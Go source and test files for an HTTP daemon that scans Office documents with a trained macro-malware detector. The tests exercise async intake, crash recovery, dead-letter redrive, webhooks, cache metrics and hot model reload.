	if mr.Algorithm != string(det.Algorithm()) {
		t.Errorf("algorithm = %q, want %q", mr.Algorithm, det.Algorithm())
	}
	want := det.FeatureSet().Channels()
	if len(mr.Channels) != len(want) {
		t.Fatalf("channels = %d entries, want %d", len(mr.Channels), len(want))
	}
	for i, c := range mr.Channels {
		if c.Name != want[i].Name || c.Version != want[i].Version || c.Dim != want[i].Dim() {
			t.Errorf("channel %d = %+v, want %s@%d:%d", i, c, want[i].Name, want[i].Version, want[i].Dim())
		}
	}
	if mr.GoVersion == "" || mr.Version == "" {
		t.Errorf("build identity incomplete: version=%q go_version=%q", mr.Version, mr.GoVersion)
	}
}

// TestModelEndpointNoModel checks that a modelless server answers 503 with
// a Retry-After hint, exactly like an unready backend.
func TestModelEndpointNoModel(t *testing.T) {
	srv := New(nil, quietConfig())
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	resp, err := http.Get(ts.URL + "/v1/model")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("GET /v1/model = %d, want 503", resp.StatusCode)
	}
	if resp.Header.Get("Retry-After") == "" {
		t.Error("503 /v1/model missing Retry-After")
	}
}

// TestRetryAfterOnDrain checks that backpressure responses carry
// Retry-After: the draining /readyz (long hint) and the not-ready scan
// path, so the gateway's backoff can honor the server's own estimate.
func TestRetryAfterOnDrain(t *testing.T) {
	srv, ts := newTestServer(t, quietConfig())
	defer ts.Close()

	srv.BeginShutdown()
	resp, err := http.Get(ts.URL + "/readyz")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("draining /readyz = %d, want 503", resp.StatusCode)
	}
	if got := resp.Header.Get("Retry-After"); got != "10" {
		t.Errorf("draining /readyz Retry-After = %q, want \"10\"", got)
	}

	resp, err = http.Post(ts.URL+"/v1/scan", "application/octet-stream", nil)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("draining /v1/scan = %d, want 503", resp.StatusCode)
	}
	if resp.Header.Get("Retry-After") == "" {
		t.Error("draining /v1/scan missing Retry-After")
	}
}

// TestCacheHitRatioGauge checks the first-class hit-ratio gauges derive
// correctly from the monotonic counters.
func TestCacheHitRatioGauge(t *testing.T) {
	_, ts := newTestServer(t, quietConfig())
	defer ts.Close()

	doc := testFixture.macroDoc
	for i := 0; i < 2; i++ { // miss then hit
		resp, sr := postScan(t, ts.URL, doc)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("scan %d = %d", i, resp.StatusCode)
		}
		if i == 1 && !sr.Cached {
			t.Fatal("second identical scan was not cached")
		}
	}
	resp, err := http.Get(ts.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var m map[string]any
	if err := json.NewDecoder(resp.Body).Decode(&m); err != nil {
		t.Fatal(err)
	}
	ratio, ok := m["cache_hit_ratio"].(float64)
	if !ok {
		t.Fatalf("metrics JSON missing cache_hit_ratio: %v", m["cache_hit_ratio"])
	}
	if ratio != 0.5 {
		t.Errorf("cache_hit_ratio = %v, want 0.5 (1 hit / 2 lookups)", ratio)
	}
	if _, ok := m["macro_cache_hit_ratio"].(float64); !ok {
		t.Error("metrics JSON missing macro_cache_hit_ratio")
	}
}
