package server

import (
	"bytes"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"repro/internal/faultinject"
)

// newIntakeServer builds a server with async intake started on a fresh
// temp directory. The cleanup stops the intake workers without closing
// the shared fixture detector.
func newIntakeServer(t *testing.T, cfg Config) (*Server, *httptest.Server) {
	t.Helper()
	det := fixture(t)
	if cfg.Logger == nil {
		cfg.Logger = quietConfig().Logger
	}
	if cfg.Intake.Dir == "" {
		cfg.Intake.Dir = t.TempDir()
	}
	cfg.Intake.NoSync = true
	srv := New(det, cfg)
	if err := srv.StartIntake(); err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(srv.Handler())
	t.Cleanup(func() {
		ts.Close()
		srv.stopIntake()
	})
	return srv, ts
}

func submit(t *testing.T, base string, body []byte, query string) SubmitResponse {
	t.Helper()
	resp, err := http.Post(base+"/v1/submit"+query, "application/octet-stream", bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var sr SubmitResponse
	if err := json.NewDecoder(resp.Body).Decode(&sr); err != nil {
		t.Fatalf("decoding submit response: %v", err)
	}
	if resp.StatusCode != http.StatusAccepted {
		t.Fatalf("submit status = %d", resp.StatusCode)
	}
	if sr.Ticket == "" || sr.Status != "queued" {
		t.Fatalf("submit response: %+v", sr)
	}
	return sr
}

// pollTicket polls until the ticket reaches a terminal state ("done",
// "failed" or "dead").
func pollTicket(t *testing.T, base, ticket string, timeout time.Duration) TicketResult {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for {
		resp, err := http.Get(base + "/v1/tickets/" + ticket)
		if err != nil {
			t.Fatal(err)
		}
		var tr TicketResult
		err = json.NewDecoder(resp.Body).Decode(&tr)
		resp.Body.Close()
		if err != nil {
			t.Fatalf("decoding ticket response: %v", err)
		}
		switch tr.Status {
		case "done", "failed", "dead":
			return tr
		}
		if time.Now().After(deadline) {
			t.Fatalf("ticket %s stuck in %q", ticket, tr.Status)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// TestIntakeSubmitPollVerdict drives the full async lifecycle and checks
// the published verdict matches the sync endpoint byte for byte.
func TestIntakeSubmitPollVerdict(t *testing.T) {
	fixture(t)
	_, ts := newIntakeServer(t, quietConfig())
	sr := submit(t, ts.URL, testFixture.macroDoc, "?trace=1")
	res := pollTicket(t, ts.URL, sr.Ticket, 30*time.Second)
	if res.Status != "done" || len(res.Docs) != 1 {
		t.Fatalf("result: %+v", res)
	}
	if res.Docs[0].Report == nil || res.Docs[0].Report.ContainerPath != "" {
		t.Fatalf("doc: %+v", res.Docs[0])
	}
	if res.Trace == nil || res.Trace.Root == nil || len(res.Trace.Root.Children) == 0 {
		t.Fatalf("trace missing from traced submission: %+v", res.Trace)
	}
	_, sync := postScan(t, ts.URL, testFixture.macroDoc)
	got, _ := json.Marshal(res.Docs[0].Report)
	want, _ := json.Marshal(sync.Report)
	if !bytes.Equal(got, want) {
		t.Fatalf("async verdict diverged from sync scan:\nasync: %s\nsync:  %s", got, want)
	}
	// Polling again must serve the same published result (no re-scan).
	again := pollTicket(t, ts.URL, sr.Ticket, time.Second)
	g2, _ := json.Marshal(again)
	g1, _ := json.Marshal(res)
	if !bytes.Equal(g1, g2) {
		t.Fatal("published result changed between polls")
	}
}

// TestIntakeNestedContainer submits a ZIP wrapping a macro document and
// checks the walker's provenance surfaces in the published result.
func TestIntakeNestedContainer(t *testing.T) {
	fixture(t)
	_, ts := newIntakeServer(t, quietConfig())
	wrapped, err := faultinject.WrapZip(map[string][]byte{"inner.doc": testFixture.macroDoc})
	if err != nil {
		t.Fatal(err)
	}
	sr := submit(t, ts.URL, wrapped, "")
	res := pollTicket(t, ts.URL, sr.Ticket, 30*time.Second)
	if res.Status != "done" || len(res.Docs) != 1 {
		t.Fatalf("result: %+v", res)
	}
	doc := res.Docs[0]
	if doc.File != "inner.doc" || doc.Report == nil || doc.Report.ContainerPath != "inner.doc" {
		t.Fatalf("provenance not surfaced: file=%q report=%+v", doc.File, doc.Report)
	}
	// The verdict must match scanning the inner bytes directly.
	_, sync := postScan(t, ts.URL, testFixture.macroDoc)
	doc.Report.ContainerPath = ""
	got, _ := json.Marshal(doc.Report)
	want, _ := json.Marshal(sync.Report)
	if !bytes.Equal(got, want) {
		t.Fatalf("nested verdict diverged from direct scan:\n%s\n%s", got, want)
	}
}

// TestIntakeNotContainerFails submits unscannable bytes and expects a
// resolved "failed" ticket with a typed class, not a dead letter.
func TestIntakeNotContainerFails(t *testing.T) {
	fixture(t)
	_, ts := newIntakeServer(t, quietConfig())
	sr := submit(t, ts.URL, []byte("plain text, not a container"), "")
	res := pollTicket(t, ts.URL, sr.Ticket, 30*time.Second)
	if res.Status != "failed" || res.ErrorClass != "malformed" {
		t.Fatalf("result: %+v", res)
	}
}

// TestIntakeCrashRecoveryAcrossRestart accepts submissions into an
// accept-only server (no drain workers — everything is journal state, the
// footprint of a crash between accept and scan), tears it down, reopens
// the same intake directory with workers, and requires every ticket to
// resolve with a verdict byte-identical to the sync scan of the same
// bytes. Run under -race in CI.
func TestIntakeCrashRecoveryAcrossRestart(t *testing.T) {
	det := fixture(t)
	dir := t.TempDir()
	cfg := quietConfig()
	cfg.Intake = IntakeConfig{Dir: dir, Workers: -1, NoSync: true}
	srv1 := New(det, cfg)
	if err := srv1.StartIntake(); err != nil {
		t.Fatal(err)
	}
	ts1 := httptest.NewServer(srv1.Handler())

	var tickets []string
	var bodies [][]byte
	for i, doc := range testFixture.docs {
		if i >= 6 {
			break
		}
		sr := submit(t, ts1.URL, doc, "")
		tickets = append(tickets, sr.Ticket)
		bodies = append(bodies, doc)
	}
	if len(tickets) < 2 {
		t.Fatalf("fixture produced only %d documents", len(tickets))
	}
	// "Crash": the accepting process goes away with every ticket
	// unprocessed. Only the journal survives.
	ts1.Close()
	srv1.stopIntake()

	cfg2 := quietConfig()
	cfg2.Intake = IntakeConfig{Dir: dir, Workers: 2, NoSync: true}
	srv2 := New(det, cfg2)
	if err := srv2.StartIntake(); err != nil {
		t.Fatal(err)
	}
	ts2 := httptest.NewServer(srv2.Handler())
	t.Cleanup(func() {
		ts2.Close()
		srv2.stopIntake()
	})

	for i, ticket := range tickets {
		res := pollTicket(t, ts2.URL, ticket, 60*time.Second)
		if res.Status != "done" || len(res.Docs) != 1 {
			t.Fatalf("ticket %s after restart: %+v", ticket, res)
		}
		_, sync := postScan(t, ts2.URL, bodies[i])
		got, _ := json.Marshal(res.Docs[0].Report)
		want, _ := json.Marshal(sync.Report)
		if !bytes.Equal(got, want) || res.Docs[0].NoMacros != sync.NoMacros {
			t.Fatalf("ticket %s verdict diverged after restart:\nasync: %s no_macros=%v\nsync:  %s no_macros=%v",
				ticket, got, res.Docs[0].NoMacros, want, sync.NoMacros)
		}
	}
}

// TestIntakeDeadLetterAndRedrive forces repeated transient failures (a
// scan deadline that can never be met), expects the ticket to dead-letter
// instead of looping forever, and exercises the admin list + redrive path.
func TestIntakeDeadLetterAndRedrive(t *testing.T) {
	fixture(t)
	cfg := quietConfig()
	cfg.ScanTimeout = time.Nanosecond
	cfg.Intake = IntakeConfig{
		Workers:           1,
		MaxAttempts:       2,
		RetryBackoff:      time.Millisecond,
		VisibilityTimeout: 50 * time.Millisecond,
	}
	_, ts := newIntakeServer(t, cfg)
	sr := submit(t, ts.URL, testFixture.macroDoc, "")
	res := pollTicket(t, ts.URL, sr.Ticket, 30*time.Second)
	if res.Status != "dead" {
		t.Fatalf("result: %+v", res)
	}

	resp, err := http.Get(ts.URL + "/v1/admin/intake/dead")
	if err != nil {
		t.Fatal(err)
	}
	var list struct {
		Dead []DeadTicketJSON `json:"dead"`
	}
	err = json.NewDecoder(resp.Body).Decode(&list)
	resp.Body.Close()
	if err != nil {
		t.Fatal(err)
	}
	if len(list.Dead) != 1 || list.Dead[0].Ticket != sr.Ticket ||
		!strings.Contains(list.Dead[0].Reason, "deadline") {
		t.Fatalf("dead letters: %+v", list.Dead)
	}

	resp, err = http.Post(ts.URL+"/v1/admin/intake/redrive/"+sr.Ticket, "", nil)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("redrive status = %d", resp.StatusCode)
	}

	resp, err = http.Post(ts.URL+"/v1/admin/intake/redrive/999999", "", nil)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Fatalf("redrive of unknown ticket = %d", resp.StatusCode)
	}
}

// TestIntakeReadyzBacklogWatermark checks that a backlog past the
// configured watermark (with no workers draining it) fails readiness
// while liveness keeps reporting the queue state.
func TestIntakeReadyzBacklogWatermark(t *testing.T) {
	fixture(t)
	cfg := quietConfig()
	cfg.Intake = IntakeConfig{Workers: -1, BacklogWatermark: 2}
	_, ts := newIntakeServer(t, cfg)
	for i := 0; i < 3; i++ {
		submit(t, ts.URL, testFixture.macroDoc, "")
	}
	resp, err := http.Get(ts.URL + "/readyz")
	if err != nil {
		t.Fatal(err)
	}
	var body map[string]string
	err = json.NewDecoder(resp.Body).Decode(&body)
	resp.Body.Close()
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusServiceUnavailable || !strings.Contains(body["status"], "backlog") {
		t.Fatalf("readyz = %d %v", resp.StatusCode, body)
	}

	resp, err = http.Get(ts.URL + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	var health struct {
		Status string `json:"status"`
		Intake struct {
			Depth int `json:"depth"`
		} `json:"intake"`
	}
	err = json.NewDecoder(resp.Body).Decode(&health)
	resp.Body.Close()
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK || health.Status != "ok" || health.Intake.Depth != 3 {
		t.Fatalf("healthz = %d %+v", resp.StatusCode, health)
	}
}

// TestIntakeWebhook registers a completion webhook and expects exactly
// one delivery carrying the published result.
func TestIntakeWebhook(t *testing.T) {
	fixture(t)
	var calls atomic.Int64
	got := make(chan TicketResult, 4)
	hook := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		calls.Add(1)
		var tr TicketResult
		_ = json.NewDecoder(r.Body).Decode(&tr)
		got <- tr
	}))
	defer hook.Close()

	cfg := quietConfig()
	cfg.Intake = IntakeConfig{AllowWebhooks: true}
	_, ts := newIntakeServer(t, cfg)
	sr := submit(t, ts.URL, testFixture.macroDoc, "?webhook="+hook.URL)
	res := pollTicket(t, ts.URL, sr.Ticket, 30*time.Second)
	if res.Status != "done" {
		t.Fatalf("result: %+v", res)
	}
	select {
	case tr := <-got:
		if tr.Ticket != sr.Ticket || tr.Status != "done" {
			t.Fatalf("webhook payload: %+v", tr)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("webhook never delivered")
	}
	if n := calls.Load(); n != 1 {
		t.Fatalf("webhook delivered %d times", n)
	}
}

// TestIntakeWebhookDisabled rejects webhook registration when the server
// has not opted into outbound calls.
func TestIntakeWebhookDisabled(t *testing.T) {
	fixture(t)
	_, ts := newIntakeServer(t, quietConfig())
	resp, err := http.Post(ts.URL+"/v1/submit?webhook=http://example.com/cb",
		"application/octet-stream", bytes.NewReader(testFixture.macroDoc))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("webhook submit without opt-in = %d", resp.StatusCode)
	}
}

// TestIntakeTicketErrors covers the malformed and unknown ticket paths.
func TestIntakeTicketErrors(t *testing.T) {
	fixture(t)
	_, ts := newIntakeServer(t, quietConfig())
	resp, err := http.Get(ts.URL + "/v1/tickets/not-a-number")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("malformed ticket = %d", resp.StatusCode)
	}
	resp, err = http.Get(ts.URL + "/v1/tickets/424242")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Fatalf("unknown ticket = %d", resp.StatusCode)
	}
}
