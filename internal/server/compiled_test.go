package server

import (
	"net/http/httptest"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"
)

// newHTTPServer serves a pre-built Server (so tests can set scanGate and
// custom configs before traffic starts) and returns its base URL.
func newHTTPServer(t *testing.T, srv *Server) string {
	t.Helper()
	ts := httptest.NewServer(srv.Handler())
	t.Cleanup(ts.Close)
	return ts.URL
}

// waitFor polls cond until it holds or the deadline passes.
func waitFor(t *testing.T, d time.Duration, cond func() bool, msg string) {
	t.Helper()
	deadline := time.Now().Add(d)
	for time.Now().Before(deadline) {
		if cond() {
			return
		}
		time.Sleep(2 * time.Millisecond)
	}
	t.Fatal(msg)
}

// compiledModelPath saves the fixture detector as a compiled model
// container and returns its path.
func compiledModelPath(t *testing.T) string {
	t.Helper()
	det := fixture(t)
	blob, err := det.SaveModelCompiled()
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "model.bin")
	if err := os.WriteFile(path, blob, 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// TestReloadMmapUnderLoad holds a scan in flight across a hot reload of an
// mmap'd model and checks the old mapping survives until that scan
// finishes: the retired image must never be unmapped under a reader. Run
// with -race this also exercises the lease handoff.
func TestReloadMmapUnderLoad(t *testing.T) {
	cfg := quietConfig()
	cfg.ModelMmap = true
	cfg.CacheEntries = -1 // every request must run the pipeline
	srv, err := NewFromModelFile(compiledModelPath(t), cfg)
	if err != nil {
		t.Fatal(err)
	}
	oldMapping := srv.detector().ModelMapping()
	if oldMapping == nil {
		t.Fatal("mmap load did not retain the model mapping")
	}

	entered := make(chan struct{})
	unblock := make(chan struct{})
	var once sync.Once
	srv.scanGate = func() {
		once.Do(func() {
			close(entered)
			<-unblock
		})
	}
	ts := newHTTPServer(t, srv)

	scanDone := make(chan ScanResponse, 1)
	go func() {
		_, sr := postScan(t, ts, testFixture.macroDoc)
		scanDone <- sr
	}()
	<-entered

	// Swap the model while the scan is pinned mid-pipeline.
	if err := srv.Reload(); err != nil {
		t.Fatal(err)
	}
	newMapping := srv.detector().ModelMapping()
	if newMapping == nil || newMapping == oldMapping {
		t.Fatal("reload did not produce a fresh mapping")
	}
	if oldMapping.Unmapped() {
		t.Fatal("retired model image unmapped while a scan still reads it")
	}

	close(unblock)
	sr := <-scanDone
	if sr.Error != "" || sr.Report == nil || len(sr.Report.Macros) == 0 {
		t.Fatalf("in-flight scan failed across reload: %+v", sr)
	}
	// With the scan finished its lease is gone; the retired image must be
	// released promptly (the scan goroutine may still be winding down).
	waitFor(t, time.Second, oldMapping.Unmapped, "retired mapping never unmapped")
	if newMapping.Unmapped() {
		t.Fatal("live mapping released by mistake")
	}
	if err := srv.Close(); err != nil {
		t.Fatal(err)
	}
	waitFor(t, time.Second, newMapping.Unmapped, "Close did not release the mapping")
}

// TestClassifyBatchCoalescing runs concurrent scans against a server with
// a classify window and checks rows were merged into shared forest calls —
// and that verdicts are unchanged by batching.
func TestClassifyBatchCoalescing(t *testing.T) {
	det := fixture(t) // reference verdicts, no batching
	cfg := quietConfig()
	cfg.CacheEntries = -1 // no verdict caching: every scan classifies
	cfg.ClassifyBatchWindow = 10 * time.Millisecond
	srv, err := NewFromModelFile(testFixture.modelPath, cfg)
	if err != nil {
		t.Fatal(err)
	}
	ts := newHTTPServer(t, srv)

	const rounds = 3
	const parallel = 4
	for round := 0; round < rounds; round++ {
		var wg sync.WaitGroup
		results := make([]ScanResponse, parallel)
		for i := 0; i < parallel; i++ {
			wg.Add(1)
			go func(i int) {
				defer wg.Done()
				_, results[i] = postScan(t, ts, testFixture.macroDoc)
			}(i)
		}
		wg.Wait()
		want, err := det.ScanFile(testFixture.macroDoc)
		if err != nil {
			t.Fatal(err)
		}
		for i, sr := range results {
			if sr.Error != "" || sr.Report == nil {
				t.Fatalf("round %d scan %d failed: %+v", round, i, sr)
			}
			if sr.Report.Obfuscated != want.Obfuscated() || len(sr.Report.Macros) != len(want.Macros) {
				t.Fatalf("round %d scan %d: batched verdict drifted from direct scan", round, i)
			}
		}
	}
	m := srv.Metrics()
	if m.ClassifyBatchSize.Count() == 0 {
		t.Fatal("classify window configured but no coalesced batches recorded")
	}
	if m.ClassifyBatchWait.Count() != m.ClassifyBatchSize.Count() {
		t.Fatalf("batch histograms disagree: size=%d wait=%d",
			m.ClassifyBatchSize.Count(), m.ClassifyBatchWait.Count())
	}
}

// TestClassifyBatchOffByDefault checks the zero-value config never touches
// the coalescer: no batch metrics move and scans take the inline path.
func TestClassifyBatchOffByDefault(t *testing.T) {
	srv, ts := newTestServer(t, quietConfig())
	if _, sr := postScan(t, ts.URL, testFixture.macroDoc); sr.Report == nil {
		t.Fatalf("scan failed: %+v", sr)
	}
	if n := srv.Metrics().ClassifyBatchSize.Count(); n != 0 {
		t.Fatalf("batching disabled but %d batches recorded", n)
	}
}
