// Package server is the long-running scan service: an HTTP daemon that
// loads a trained detector once and classifies Office documents on demand,
// the MEADE-style deployment shape (a detection engine fed a continuous
// attachment stream) built on the batch engine from internal/scan.
//
// The server is defensive by construction: request bodies are size-capped,
// scans run under a bounded in-flight semaphore with per-request
// deadlines, a panic while parsing one malformed document is isolated to
// that request, and the model can be hot-swapped (SIGHUP or
// POST /v1/admin/reload) behind an RWMutex without dropping traffic.
package server

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"mime"
	"net/http"
	"net/http/pprof"
	"os"
	"runtime"
	"runtime/debug"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/cache"
	"repro/internal/core"
	"repro/internal/extract"
	"repro/internal/hostile"
	"repro/internal/scan"
	"repro/internal/telemetry"
)

// Config tunes the scan daemon. The zero value is usable: every field has
// a production default applied by New.
type Config struct {
	// ModelPath is the model file reloaded on SIGHUP / admin reload.
	// Empty disables reloading (the initial detector stays pinned).
	ModelPath string
	// ModelMmap memory-maps ModelPath instead of reading it. When the file
	// is a compiled model container (vbadetect train -compiled) whose
	// section can be aliased in place, inference runs straight off the
	// read-only page-cache image — N workers and N daemon processes share
	// one copy of the forest. Plain JSON models load normally either way.
	ModelMmap bool
	// ClassifyBatchWindow enables daemon micro-batching: feature rows from
	// concurrent scan requests are coalesced for up to this long into one
	// forest batch call. 0 (the default) disables coalescing entirely,
	// leaving single-request latency untouched.
	ClassifyBatchWindow time.Duration
	// ClassifyBatchMaxRows caps rows merged into one coalesced classify
	// call (a full batch flushes before the window expires). Default 256.
	ClassifyBatchMaxRows int
	// MaxBodyBytes caps a request body (raw or multipart). Default 32 MiB.
	MaxBodyBytes int64
	// MaxInFlight bounds concurrently processed scan requests. Default
	// 2 × GOMAXPROCS.
	MaxInFlight int
	// QueueWait is how long a request waits for a free slot before 429.
	// Default 5s.
	QueueWait time.Duration
	// ScanTimeout is the per-request processing deadline. Default 30s.
	ScanTimeout time.Duration
	// BatchWorkers is the scan.Engine worker count for /v1/scan/batch.
	// Default GOMAXPROCS.
	BatchWorkers int
	// MaxBatchFiles caps documents per batch request. Default 256.
	MaxBatchFiles int
	// EnablePprof mounts net/http/pprof under /debug/pprof/.
	EnablePprof bool
	// CacheEntries bounds the content-addressed verdict caches (one
	// document-level, one macro-level) to that many entries each. 0
	// applies the 4096-entry default; negative disables both caches and
	// the collapsing of concurrent identical requests.
	CacheEntries int
	// CacheBytes bounds each verdict cache's charged memory. 0 applies
	// the 256 MiB default; negative lifts the byte bound (the caches are
	// then bounded by CacheEntries alone).
	CacheBytes int64
	// Limits is the per-document resource budget (decompressed bytes,
	// container depth, lexer tokens, ...) applied to every scan. Zero
	// fields take the hostile package defaults. The budget also inherits
	// each request's ScanTimeout as its processing deadline.
	Limits hostile.Limits
	// Logger receives structured request logs. Default: JSON to stderr.
	Logger *slog.Logger
	// Audit, when set, receives a verdict audit event for every scanned
	// document (single and batch), subject to the logger's own sampling
	// and rate caps. Nil disables auditing.
	Audit *telemetry.AuditLogger
	// DriftWarnPSI is the per-channel PSI above which /healthz reports the
	// drift detail as "warn". Drift never fails a scan or a health check.
	// 0 applies the 0.2 default; negative disables drift monitoring.
	DriftWarnPSI float64
	// DriftWindow is the rolling production-score window per channel, in
	// observations. 0 applies telemetry.DefaultDriftWindow.
	DriftWindow int
	// SLOAvailabilityTarget / SLOLatencyTarget / SLOLatencyThreshold tune
	// the rolling SLO tracker behind the slo_* gauges: the availability
	// objective (fraction of /v1/ requests answered below 500), the
	// latency objective (fraction answered within the threshold), and the
	// threshold itself. Zeros apply 0.999 / 0.99 / 500ms.
	SLOAvailabilityTarget float64
	SLOLatencyTarget      float64
	SLOLatencyThreshold   time.Duration
	// DebugTraceBuffer is how many recent span trees the server retains
	// for the debug bundle. 0 applies the 64 default.
	DebugTraceBuffer int
	// Intake configures the durable async intake path (POST /v1/submit);
	// see IntakeConfig. Activated by calling StartIntake.
	Intake IntakeConfig
}

func (c Config) withDefaults() Config {
	if c.MaxBodyBytes <= 0 {
		c.MaxBodyBytes = 32 << 20
	}
	if c.MaxInFlight <= 0 {
		c.MaxInFlight = 2 * runtime.GOMAXPROCS(0)
	}
	if c.QueueWait <= 0 {
		c.QueueWait = 5 * time.Second
	}
	if c.ScanTimeout <= 0 {
		c.ScanTimeout = 30 * time.Second
	}
	if c.BatchWorkers <= 0 {
		c.BatchWorkers = runtime.GOMAXPROCS(0)
	}
	if c.MaxBatchFiles <= 0 {
		c.MaxBatchFiles = 256
	}
	if c.Logger == nil {
		c.Logger = slog.New(slog.NewJSONHandler(os.Stderr, nil))
	}
	if c.DriftWarnPSI == 0 {
		c.DriftWarnPSI = 0.2
	}
	if c.DebugTraceBuffer <= 0 {
		c.DebugTraceBuffer = 64
	}
	return c
}

// cacheBounds resolves the cache configuration: entries is the master
// switch (negative disables caching entirely), and each zero field takes
// its production default.
func (c Config) cacheBounds() (entries int, bytes int64, enabled bool) {
	if c.CacheEntries < 0 {
		return 0, 0, false
	}
	entries = c.CacheEntries
	if entries == 0 {
		entries = 4096
	}
	bytes = c.CacheBytes
	if bytes == 0 {
		bytes = 256 << 20
	}
	if bytes < 0 {
		bytes = 0
	}
	return entries, bytes, true
}

// Server is the scan daemon: a trained detector behind HTTP handlers with
// observability, admission control and hot model reload.
type Server struct {
	cfg     Config
	log     *slog.Logger
	metrics *Metrics

	mu     sync.RWMutex // guards det, docs, flight, drift and cacheBase across hot reloads
	det    *core.Detector
	docs   *scan.DocCache
	flight *cache.Flight[scanOutcome]
	// drift scores recent production score distributions against the
	// model's train-time baselines; rebuilt with the detector on Reload
	// (baselines belong to the model that shipped them).
	drift *telemetry.DriftMonitor
	// cacheBase accumulates the hit/miss/eviction counters of caches
	// retired by Reload, keeping the exported cache metrics monotonic
	// across model swaps.
	cacheBase struct {
		doc   cache.Stats
		macro cache.Stats
	}

	sem      chan struct{}
	draining atomic.Bool
	inflight sync.WaitGroup
	reqSeq   atomic.Uint64

	// slo tracks rolling availability/latency SLIs over the /v1/ API;
	// recent retains the last few span trees for the debug bundle.
	slo    *telemetry.SLOTracker
	recent *traceRing

	// intake is the durable async-submission path, nil until StartIntake.
	intake *intake

	// scanGate, when set (tests only), is invoked while a scan holds its
	// semaphore slot, letting tests hold requests in flight deterministically.
	scanGate func()
}

// New wraps a trained detector in a Server. det may be nil: the server
// starts unready and becomes ready after the first successful Reload.
func New(det *core.Detector, cfg Config) *Server {
	cfg = cfg.withDefaults()
	s := &Server{
		cfg:     cfg,
		log:     cfg.Logger,
		metrics: NewMetrics(),
		det:     det,
		sem:     make(chan struct{}, cfg.MaxInFlight),
		slo:     telemetry.NewSLOTracker(cfg.SLOAvailabilityTarget, cfg.SLOLatencyTarget, cfg.SLOLatencyThreshold),
		recent:  newTraceRing(cfg.DebugTraceBuffer),
	}
	if det != nil {
		s.wireDetector(det)
		s.drift = s.newDriftMonitor(det)
	}
	if entries, bytes, ok := cfg.cacheBounds(); ok {
		s.docs = scan.NewDocCache(entries, bytes)
		s.flight = &cache.Flight[scanOutcome]{}
	}
	s.registerCacheMetrics()
	s.registerObservability()
	return s
}

// newDriftMonitor builds the drift monitor for a freshly loaded detector,
// seeded with the train-time score baselines embedded in its model
// container. Nil when drift monitoring is disabled; a model saved before
// baselines existed yields a monitor with unbaselined channels (PSI 0).
func (s *Server) newDriftMonitor(det *core.Detector) *telemetry.DriftMonitor {
	if s.cfg.DriftWarnPSI < 0 || det == nil {
		return nil
	}
	m := telemetry.NewDriftMonitor(s.cfg.DriftWindow)
	for _, b := range det.Baselines() {
		m.SetBaseline(b.Channel, b.Bins)
	}
	return m
}

// registerObservability publishes the fleet-facing instruments: the SLO
// gauges, the per-channel drift gauge and the build-info metric.
func (s *Server) registerObservability() {
	reg := s.metrics.Registry()
	s.slo.Register(reg)
	reg.LabeledGaugeFunc("model_drift_psi",
		"PSI between the model's train-time score distribution and recent production scores, per channel.",
		"channel", s.driftSnapshot)
	reg.InfoFunc("vbadetect_build_info",
		"Build and model identity as labels; value is always 1.",
		s.buildInfo)
}

// driftSnapshot reads the live drift monitor under the reload lock.
func (s *Server) driftSnapshot() ([]string, []float64) {
	s.mu.RLock()
	d := s.drift
	s.mu.RUnlock()
	return d.Snapshot()
}

// observeDrift feeds one production channel score into the live monitor.
func (s *Server) observeDrift(channel string, score float64) {
	s.mu.RLock()
	d := s.drift
	s.mu.RUnlock()
	d.Observe(channel, score)
}

// buildInfo assembles the build_info labels: binary version, Go
// toolchain, and the loaded model's identity (when one is loaded).
func (s *Server) buildInfo() map[string]string {
	info := map[string]string{
		"go_version": runtime.Version(),
		"version":    buildVersion(),
	}
	if det := s.detector(); det != nil {
		info["feature_set"] = det.FeatureSet().String()
		info["model"] = det.FeatureSetID()
	}
	return info
}

// buildVersion resolves the binary's version from build metadata: the
// module version when stamped, else the VCS revision, else "devel".
func buildVersion() string {
	bi, ok := debug.ReadBuildInfo()
	if !ok {
		return "devel"
	}
	if v := bi.Main.Version; v != "" && v != "(devel)" {
		return v
	}
	for _, kv := range bi.Settings {
		if kv.Key == "vcs.revision" && kv.Value != "" {
			return kv.Value
		}
	}
	return "devel"
}

// newMacroCache builds a macro-level verdict cache per the configured
// bounds (nil when caching is disabled).
func (s *Server) newMacroCache() *core.MacroCache {
	entries, bytes, ok := s.cfg.cacheBounds()
	if !ok {
		return nil
	}
